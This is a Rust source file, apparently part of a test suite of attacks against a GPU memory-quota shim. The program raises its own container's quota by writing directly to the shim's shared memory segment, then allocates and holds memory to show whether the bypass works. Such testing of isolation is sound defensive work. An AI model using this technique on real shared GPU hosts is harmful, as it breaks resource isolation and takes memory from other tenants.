//! `attack-quota BYTES [SECONDS]`: a process under the shim raises its own
//! container's memory quota by writing the `limit` of every limited device
//! entry of its memory segment (the segment directory of the configuration
//! the shim loaded: `/run/cuslice/segment` in a container given its slice by
//! the OCI hook), then allocates BYTES through the shim (`cuMemAlloc_v2`
//! found by `dlsym`, which the shim hooks) and holds them. Prints
//! `ATTACK quota raised <old> -> <new>; holding <bytes> bytes; pid <pid>`
//! (old and new of the first limited entry; every limited entry is raised
//! by BYTES). Exits 1 if the shim still refuses the allocation, 2 on any
//! other failure (no segment: the shim is not active).

use std::sync::atomic::Ordering;

use cuslice_attacks::{Driver, arg, die, hold, shim_config};
use cuslice_core::config::parse_size;
use cuslice_core::segment::{MAX_DEVICES, Segment, UNLIMITED};

fn main() {
    let bytes_arg: String = arg(1, "BYTES", None);
    let bytes = parse_size(&bytes_arg).unwrap_or_else(|e| die(&format!("BYTES: {e}")));
    let secs: Option<f64> = std::env::args().nth(2).map(|_| arg(2, "SECONDS", None));
    let cfg = shim_config();
    let path = cfg.segment_dir.join("memory.seg");

    // cuInit: the shim registers this process and its GPU in the segment.
    let drv = Driver::load();
    drv.init_device0();

    if !path.exists() {
        die(&format!(
            "{}: no memory segment (is the shim preloaded, with a memory quota?)",
            path.display()
        ));
    }
    let seg = Segment::open_or_create(&path).unwrap_or_else(|e| die(&e.0));
    let mut first = None;
    for i in 0..MAX_DEVICES {
        let Some(d) = seg.device(i) else { break };
        if d.state.load(Ordering::Acquire) == 0 {
            continue;
        }
        let old = d.limit.load(Ordering::Acquire);
        if old == UNLIMITED {
            continue;
        }
        let new = old.saturating_add(bytes);
        d.limit.store(new, Ordering::Release);
        first.get_or_insert((old, new));
    }
    let Some((old, new)) = first else {
        die(&format!("{}: no device entry with a quota", path.display()))
    };
    let pid = std::process::id();
    match drv.alloc(bytes) {
        Ok(_) => println!("ATTACK quota raised {old} -> {new}; holding {bytes} bytes; pid {pid}"),
        Err(r) => {
            println!(
                "ATTACK quota raised {old} -> {new}; allocating {bytes} bytes failed: CUresult {r}; pid {pid}"
            );
            std::process::exit(1);
        }
    }
    hold(secs, None, || {});
}
